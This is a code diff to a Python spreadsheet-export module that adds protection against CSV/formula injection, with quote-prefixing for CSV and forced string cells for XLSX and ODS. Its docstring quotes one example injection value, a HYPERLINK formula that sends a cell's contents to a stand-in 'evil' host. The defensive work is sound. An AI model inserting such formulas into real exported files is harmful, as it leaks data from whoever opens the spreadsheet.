@@ -3,6 +3,12 @@
 Callers give column definitions (key, Italian header) and an iterable of dicts;
 each writer returns (bytes, content type, file extension). Values are written as
 text except numbers and dates, which spreadsheets get as typed cells.
+
+Text is never a formula (OWASP "CSV injection"): a case title such as
+`=HYPERLINK("http://evil/?"&A1)` typed by a citizen must reach the operator's
+spreadsheet as the characters they typed. XLSX and ODS cells holding text carry an
+explicit string type; CSV has no types, so text starting with a formula trigger is
+prefixed with a single quote. Real numbers (a negative amount) stay numbers.
 """
 
 from __future__ import annotations
@@ -45,14 +51,34 @@ def _text(value: Any) -> str:
     return str(value)
 
 
+# What spreadsheet programs read as the start of a formula (or, for tab and CR, as a cell
+# separator that can shift the next characters into a formula).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(value: Any) -> Any:
+    """A CSV cell that no spreadsheet evaluates: text starting with a formula trigger gets a
+    leading single quote; anything that is not text (numbers, dates) is left alone."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
 def _csv(columns: Sequence[Column], rows: Iterable[dict[str, Any]]) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer)
-    writer.writerow([header for _key, header in columns])
+    writer.writerow([csv_safe(header) for _key, header in columns])
     for row in rows:
-        writer.writerow([_text(row.get(key)) for key, _header in columns])
+        writer.writerow([_csv_cell(row.get(key)) for key, _header in columns])
     # A BOM lets spreadsheet programs read the UTF-8 accents correctly.
     return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def _csv_cell(value: Any) -> str:
+    # Numbers are written as they are (a negative amount stays -12.5, not '-12.5).
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
+        return _text(value)
+    return csv_safe(_text(value))
 
 
 def _json(columns: Sequence[Column], rows: Iterable[dict[str, Any]]) -> bytes:
@@ -71,20 +97,27 @@ def _xml(columns: Sequence[Column], rows: Iterable[dict[str, Any]], root: str, i
 
 def _xlsx(columns: Sequence[Column], rows: Iterable[dict[str, Any]], title: str) -> bytes:
     from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
 
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(title=title[:31] or "Export")
-    sheet.append([header for _key, header in columns])
+
+    def cell(value: Any) -> Any:
+        if isinstance(value, dt.datetime):
+            return value.replace(tzinfo=None)  # spreadsheets have no time zones
+        if isinstance(value, list | tuple | dict):
+            value = _text(value)
+        if not isinstance(value, str):
+            return value
+        # openpyxl turns any text starting with "=" into a formula (and "#N/A" into an error):
+        # text is text, whatever it starts with.
+        text = WriteOnlyCell(sheet, value=value)
+        text.data_type = "s"
+        return text
+
+    sheet.append([cell(header) for _key, header in columns])
     for row in rows:
-        cells = []
-        for key, _header in columns:
-            value = row.get(key)
-            if isinstance(value, dt.datetime):
-                value = value.replace(tzinfo=None)  # spreadsheets have no time zones
-            elif isinstance(value, list | tuple | dict):
-                value = _text(value)
-            cells.append(value)
-        sheet.append(cells)
+        sheet.append([cell(row.get(key)) for key, _header in columns])
     out = io.BytesIO()
     workbook.save(out)
     return out.getvalue()
@@ -109,7 +142,10 @@ _ODS_TAIL = "</table:table></office:spreadsheet></office:body></office:document-
 
 
 def _ods_cell(value: Any) -> str:
-    text = escape(_text(value))
+    # Text is always office:value-type="string" and no cell ever carries table:formula, so
+    # "=1+1" in a title is shown as typed, never computed.
+    # A literal CR would be read back as LF (XML end-of-line handling): keep it as a reference.
+    text = escape(_text(value), {"\r": "&#13;"})
     if isinstance(value, bool) or value is None:
         return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
     if isinstance(value, int | float | Decimal):
